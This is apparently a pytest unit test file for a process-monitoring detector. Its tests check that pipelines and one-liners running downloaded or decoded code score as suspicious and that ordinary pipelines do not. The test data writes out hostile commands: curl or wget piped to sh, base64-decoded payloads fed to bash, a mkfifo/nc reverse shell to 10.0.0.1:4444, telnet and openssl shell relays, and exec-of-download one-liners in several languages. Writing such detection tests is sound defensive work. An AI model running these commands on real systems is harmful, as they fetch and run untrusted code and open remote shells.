"""Code that comes through a pipe, in whatever order the members of the pipeline start."""

# ruff: noqa: S108 - temporary paths are judged, not used

from itertools import permutations

import pytest

from pyloader.records import Stdio
from tests.unit.evidence.stage import Stage

HIGH = 62


def pipeline(stage: Stage, members: list[list[str]], order: tuple[int, ...]) -> list[float]:
    """Start the members of a pipeline in this order; return the score of each at the end."""
    parent = stage.run(["bash"])
    pipes = [stage.pipe() for _ in members[1:]]
    forked = [stage.fork(parent) for _ in members]
    for position in order:
        streams = {}
        if position:
            streams["stdin"] = pipes[position - 1]
        if position < len(pipes):
            streams["stdout"] = pipes[position]
        stage.execute(forked[position], members[position], **streams)  # type: ignore[arg-type]
    return [stage.score(process) if stage.codes(process) else 0.0 for process in forked]


@pytest.mark.parametrize(
    "members",
    [
        [["curl", "-fsSL", "https://example.com/x"], ["sh"]],
        [["wget", "-qO-", "http://example.com/x"], ["bash", "-s", "--", "arg"]],
        [["curl", "http://example.com/x"], ["python3", "-"]],
        [["curl", "http://example.com/x.gz"], ["gunzip"], ["bash"]],
        [["curl", "http://example.com/x"], ["base64", "-d"], ["sh"]],
        [["echo", "aWQK"], ["base64", "-d"], ["bash"]],
        [["cat", "x"], ["base64", "--decode"], ["python3"]],
        [["cat", "x"], ["openssl", "enc", "-d", "-aes-256-cbc", "-k", "p"], ["sh"]],
        [["cat", "x"], ["xxd", "-r", "-p"], ["dash"]],
        [["cat", "/tmp/f"], ["sh", "-i"], ["nc", "10.0.0.1", "4444"]],
        [["telnet", "10.0.0.1", "4444"], ["bash"], ["telnet", "10.0.0.1", "4445"]],
        [["bash", "-i"], ["openssl", "s_client", "-quiet", "-connect", "10.0.0.1:443"]],
    ],
)
def test_code_through_a_pipe_in_any_order(members: list[list[str]]) -> None:
    """Downloaded or decoded code, and a shell joined to a relay, are found however the pipeline starts."""
    shell = next(i for i, argv in enumerate(members) if argv[0] in ("sh", "bash", "dash", "python3"))
    for order in permutations(range(len(members))):
        stage = Stage()
        if shell == 0:
            # The relay feeds the shell through a named pipe.
            parent = stage.run(["bash"])
            answers, commands = stage.pipe(), stage.pipe()
            forked = [stage.fork(parent), stage.fork(parent)]
            ends = [(commands, answers), (answers, commands)]
            for position in order:
                stdin, stdout = ends[position]
                stage.execute(forked[position], members[position], stdin=stdin, stdout=stdout)
            score = stage.score(forked[0])
        else:
            score = pipeline(stage, members, order)[shell]
        assert score >= HIGH, order


@pytest.mark.parametrize(
    "members",
    [
        [["curl", "-s", "https://api.example.com/x"], ["python3", "-m", "json.tool"]],
        [["curl", "-s", "https://api.example.com/x"], ["python3", "-c", "import json"]],
        [["curl", "-s", "https://example.com"], ["perl", "-ne", "print"]],
        [["wget", "-qO-", "https://example.com/x.tar.gz"], ["tar", "xz"]],
        [["curl", "-s", "https://example.com"], ["bash", "process.sh"]],
        [["echo", "hello"], ["base64"], ["sh"]],
        [["base64", "-d", "key.b64"], ["openssl", "x509", "-text"]],
        [["cat", "script.sh"], ["bash"]],
        [["echo", "stats"], ["nc", "localhost", "11211"]],
        [["bash", "metrics.sh"], ["nc", "graphite", "2003"]],
        [["ssh", "host", "cat", "x.sh"], ["sh"]],
    ],
)
def test_ordinary_pipelines(members: list[list[str]]) -> None:
    """What reads a download as data, and shells that are fed with something else, are ordinary."""
    for order in permutations(range(len(members))):
        assert max(pipeline(Stage(), members, order)) < 50, order


def test_sudo_between_download_and_shell(stage: Stage) -> None:
    """`curl … | sudo bash`: the shell has the pipe of sudo as its input."""
    parent = stage.run(["bash"])
    pipe = stage.pipe()
    sudo = stage.run(["sudo", "bash"], parent, stdin=pipe, flags=1)
    stage.run(["curl", "http://example.com/x"], parent, stdout=pipe)
    shell = stage.run(["bash"], sudo, stdin=pipe)
    assert stage.score(shell) >= HIGH


@pytest.mark.parametrize(
    "code",
    [
        "curl -s http://example.com/x | sh",
        "wget -qO- http://example.com/x | sudo -E bash -",
        'bash -c "$(curl -fsSL http://example.com/x)"',
        "eval `wget -qO- http://example.com/x`",
        "bash <(curl -s http://example.com/x)",
        "source <(curl -s http://example.com/x)",
        "echo aWQK | base64 -d | bash",
        "printf '%s' 6964 | xxd -r -p | sh",
        'sh -c "$(echo aWQK | base64 --decode)"',
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
        "cd /tmp && (curl -s http://example.com/x || wget -qO- http://example.com/x) | bash",
    ],
)
def test_the_same_as_shell_code(stage: Stage, code: str) -> None:
    """A shell that is given such a pipeline as code is judged before any of it starts."""
    assert stage.score(stage.run(["sh", "-c", code])) >= HIGH


@pytest.mark.parametrize(
    "code",
    [
        "curl -s http://example.com/x > x.sh && less x.sh",
        "curl -s http://example.com/x | grep sh",
        "echo 'curl http://example.com | sh'",
        "VERSION=$(curl -s http://example.com/version); make VERSION=$VERSION",
        "base64 -d < cert.b64 > cert.pem",
        "cat list | xargs -n1 sh -c 'echo $0'",
        "kubectl get secret x -o json | jq -r .data | base64 -d",
        'eval "$(ssh-agent -s)"',
    ],
)
def test_ordinary_shell_code(stage: Stage, code: str) -> None:
    """Code that mentions the same programs but does not run what they give is ordinary."""
    assert stage.score(stage.run(["sh", "-c", code])) < 50


@pytest.mark.parametrize("first", ["shell", "download"])
def test_process_substitution(stage: Stage, first: str) -> None:
    """`bash <(curl …)` is two children of one shell; one of them reads a descriptor."""
    parent = stage.run(["bash"])
    if first == "download":
        stage.run(["curl", "http://example.com/x"], parent, stdout=stage.pipe())
    shell = stage.run(["bash", "/dev/fd/63"], parent)
    if first == "shell":
        stage.run(["curl", "http://example.com/x"], parent, stdout=stage.pipe())
    assert stage.score(shell) >= HIGH


def test_download_as_argument(stage: Stage) -> None:
    """`bash -c "$(curl …)"` gives the shell a whole script as its argument."""
    parent = stage.run(["bash"])
    stage.run(["curl", "-fsSL", "http://example.com/x"], parent, stdout=stage.pipe())
    shell = stage.run(["bash", "-c", "#!/bin/sh\nset -e\necho hello\n"], parent)
    assert stage.score(shell) >= HIGH


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["python3", "-c", "import base64;exec(base64.b64decode('aWQ='))"], "decoded_code"),
        (["perl", "-MMIME::Base64", "-e", "eval(decode_base64('aWQ='))"], "decoded_code"),
        (["php", "-r", "eval(gzinflate(base64_decode('x')));"], "decoded_code"),
        (["python3", "-c", "import urllib.request as u;exec(u.urlopen('http://x').read())"], "downloaded_code"),
        (["ruby", "-ropen-uri", "-e", "eval(URI.open('http://x').read)"], "downloaded_code"),
    ],
)
def test_one_liners_that_run_what_they_get(stage: Stage, argv: list[str], expected: str) -> None:
    """A one-liner that evaluates what it decodes or downloads is found in any language."""
    process = stage.run(argv)
    assert expected in stage.codes(process)
    assert stage.score(process) >= HIGH


def test_decoding_alone_is_ordinary(stage: Stage) -> None:
    """A one-liner that only decodes prints something."""
    process = stage.run(["python3", "-c", "import base64;print(base64.b64decode('aWQ='))"])
    assert not stage.codes(process)


def test_outputs_on_a_connection_of_the_shell(stage: Stage) -> None:
    """A program whose outputs both go to a connection that its shell has opened is worth a look."""
    shell = stage.run(["bash"])
    answer = stage.run(["id"], shell, stdin=stage.pipe(), stdout=Stdio.INET_SOCKET)

    assert "answers_on_socket" in stage.codes(answer)
    assert 50 <= stage.score(answer) < HIGH


@pytest.mark.parametrize("parent", ["inetd", "python3", "sshd"])
def test_outputs_on_a_connection_of_a_server(stage: Stage, parent: str) -> None:
    """Servers give their connections to programs, and those of a shell that was given one are told with the shell."""
    server = stage.run([parent])
    handler = stage.run(["id"], server, stdout=Stdio.INET_SOCKET)
    shell = stage.run(["bash"], server, stdin=Stdio.INET_SOCKET, stdout=Stdio.INET_SOCKET)
    inside = stage.run(["id"], shell, stdin=Stdio.INET_SOCKET, stdout=Stdio.INET_SOCKET)

    assert "answers_on_socket" not in stage.codes(handler) | stage.codes(inside)
